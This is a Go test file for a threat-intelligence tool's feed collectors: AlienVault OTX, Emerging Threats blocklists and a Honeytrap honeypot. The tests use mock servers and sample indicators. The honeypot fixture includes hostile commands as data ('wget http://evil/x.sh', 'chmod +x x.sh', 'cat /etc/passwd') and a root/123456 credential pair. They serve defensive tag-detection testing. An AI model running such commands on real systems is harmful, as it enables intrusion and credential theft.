package feeds

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sentinelforge/sentinelforge/internal/ioc"
)

func TestAlienVaultCollect(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, "/pulses/subscribed", r.URL.Path)
		assert.Equal(t, "otx-key", r.Header.Get("X-OTX-API-KEY"))

		_, _ = w.Write([]byte(`{"results":[{
			"name": "FIN7 infrastructure",
			"adversary": "FIN7",
			"tlp": "green",
			"tags": ["phishing"],
			"malware_families": ["Carbanak"],
			"indicators": [
				{"indicator": "203.0.113.7", "type": "IPv4"},
				{"indicator": "evil.example.com", "type": "hostname"},
				{"indicator": "whatever", "type": "YARA"}
			]
		}], "next": ""}`))
	}))
	defer srv.Close()

	c := NewAlienVaultCollector("otx-key")
	c.baseURL = srv.URL

	reqs, err := c.Collect(context.Background())
	require.NoError(t, err)
	require.Len(t, reqs, 2) // unsupported YARA entry skipped

	first := reqs[0]
	assert.Equal(t, "203.0.113.7", first.Value)
	require.NotNil(t, first.IocType)
	assert.Equal(t, ioc.TypeIP, *first.IocType)
	assert.Equal(t, ioc.SeverityMedium, *first.Severity)
	assert.Equal(t, 70, *first.Confidence)
	assert.Equal(t, ioc.TLPGreen, *first.TLP)
	assert.Equal(t, 90, *first.ExpirationDays)
	assert.ElementsMatch(t, []string{"phishing", "adversary:FIN7", "malware:Carbanak"}, first.Tags)

	assert.Equal(t, ioc.TypeDomain, *reqs[1].IocType)
}

func TestAlienVaultTLPDefaultsToAmber(t *testing.T) {
	// A pulse without a usable TLP label must not fall back to a more
	// permissive sharing level than amber.
	for _, label := range []string{"", "rainbow", "AMBER "} {
		assert.Equal(t, ioc.TLPAmber, pulseTLP(label), "label %q", label)
	}
	assert.Equal(t, ioc.TLPWhite, pulseTLP("WHITE"))
	assert.Equal(t, ioc.TLPRed, pulseTLP("red"))
}

func TestAlienVaultUnconfigured(t *testing.T) {
	assert.False(t, NewAlienVaultCollector("").IsConfigured())
	assert.True(t, NewAlienVaultCollector("key").IsConfigured())
}

func TestEmergingThreatsCollect(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/compromised":
			_, _ = w.Write([]byte("# ET compromised IPs\n203.0.113.7\n\n203.0.113.8\n"))
		case "/feodo":
			_, _ = w.Write([]byte("# Feodo Tracker\n198.51.100.23\n"))
		case "/urlhaus":
			_, _ = w.Write([]byte("http://malware.example.com/drop.exe\n"))
		default:
			w.WriteHeader(http.StatusNotFound)
		}
	}))
	defer srv.Close()

	c := NewEmergingThreatsCollector()
	c.lists = []blocklist{
		{url: srv.URL + "/compromised", iocType: ioc.TypeIP, tags: []string{"compromised", "emerging-threats"}},
		{url: srv.URL + "/feodo", iocType: ioc.TypeIP, tags: []string{"botnet", "c2", "feodo"}},
		{url: srv.URL + "/urlhaus", iocType: ioc.TypeURL, tags: []string{"malware-distribution", "urlhaus"}},
	}

	reqs, err := c.Collect(context.Background())
	require.NoError(t, err)
	require.Len(t, reqs, 4) // comments and blank lines skipped

	assert.Equal(t, "203.0.113.7", reqs[0].Value)
	assert.Equal(t, ioc.SeverityHigh, *reqs[0].Severity)
	assert.Equal(t, 80, *reqs[0].Confidence)
	assert.Equal(t, ioc.TLPWhite, *reqs[0].TLP)
	assert.Contains(t, reqs[2].Tags, "feodo")
	assert.Equal(t, ioc.TypeURL, *reqs[3].IocType)
}

func TestEmergingThreatsAlwaysConfigured(t *testing.T) {
	assert.True(t, NewEmergingThreatsCollector().IsConfigured())
}

const honeytrapEvents = `{"source_ip":"203.0.113.7","protocol":"SSH","category":"bruteforce","severity":"high","credentials":[{"username":"root","password":"123456"}]}
{"source_ip":"203.0.113.7","protocol":"ssh","category":"intrusion","severity":"critical","commands":["wget http://evil/x.sh","chmod +x x.sh","cat /etc/passwd"]}
not json at all
{"source_ip":"198.51.100.23","protocol":"telnet","severity":"low"}
{"protocol":"http"}
`

func TestHoneytrapCollectFromFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.jsonl")
	require.NoError(t, os.WriteFile(path, []byte(honeytrapEvents), 0o644))

	c := NewHoneytrapCollector("", path)
	require.True(t, c.IsConfigured())

	reqs, err := c.Collect(context.Background())
	require.NoError(t, err)
	require.Len(t, reqs, 2) // two attackers; malformed and ip-less lines dropped

	first := reqs[0]
	assert.Equal(t, "203.0.113.7", first.Value)
	// Two events merged: highest severity wins, tags accumulate.
	assert.Equal(t, ioc.SeverityCritical, *first.Severity)
	assert.Equal(t, 90, *first.Confidence)
	assert.Equal(t, ioc.TLPGreen, *first.TLP)
	assert.ElementsMatch(t, []string{
		"honeypot", "ssh", "bruteforce", "intrusion",
		"has_credentials", "targets_admin",
		"executed_commands", "download_attempt", "made_executable", "credential_access",
	}, first.Tags)

	second := reqs[1]
	assert.Equal(t, "198.51.100.23", second.Value)
	assert.Equal(t, ioc.SeverityLow, *second.Severity)
	assert.ElementsMatch(t, []string{"honeypot", "telnet"}, second.Tags)
}

func TestHoneytrapCollectFromAPI(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte(`{"source_ip":"203.0.113.9","protocol":"ftp","severity":"weird"}` + "\n"))
	}))
	defer srv.Close()

	c := NewHoneytrapCollector(srv.URL, "")
	reqs, err := c.Collect(context.Background())
	require.NoError(t, err)
	require.Len(t, reqs, 1)
	// Unknown severity strings fall back to medium.
	assert.Equal(t, ioc.SeverityMedium, *reqs[0].Severity)
}

func TestHoneytrapUnconfigured(t *testing.T) {
	c := NewHoneytrapCollector("", "")
	assert.False(t, c.IsConfigured())

	reqs, err := c.Collect(context.Background())
	require.NoError(t, err)
	assert.Nil(t, reqs)
}

func TestFetchRetriesTransientFailures(t *testing.T) {
	var calls int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		calls++
		if calls < 3 {
			w.WriteHeader(http.StatusBadGateway)
			return
		}
		_, _ = w.Write([]byte("ok"))
	}))
	defer srv.Close()

	body, err := fetch(context.Background(), srv.Client(), srv.URL, nil)
	require.NoError(t, err)
	assert.Equal(t, "ok", string(body))
	assert.Equal(t, 3, calls)
}

func TestFetchDoesNotRetryClientErrors(t *testing.T) {
	var calls int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		calls++
		w.WriteHeader(http.StatusForbidden)
	}))
	defer srv.Close()

	_, err := fetch(context.Background(), srv.Client(), srv.URL, nil)
	require.Error(t, err)
	assert.Equal(t, 1, calls)
}
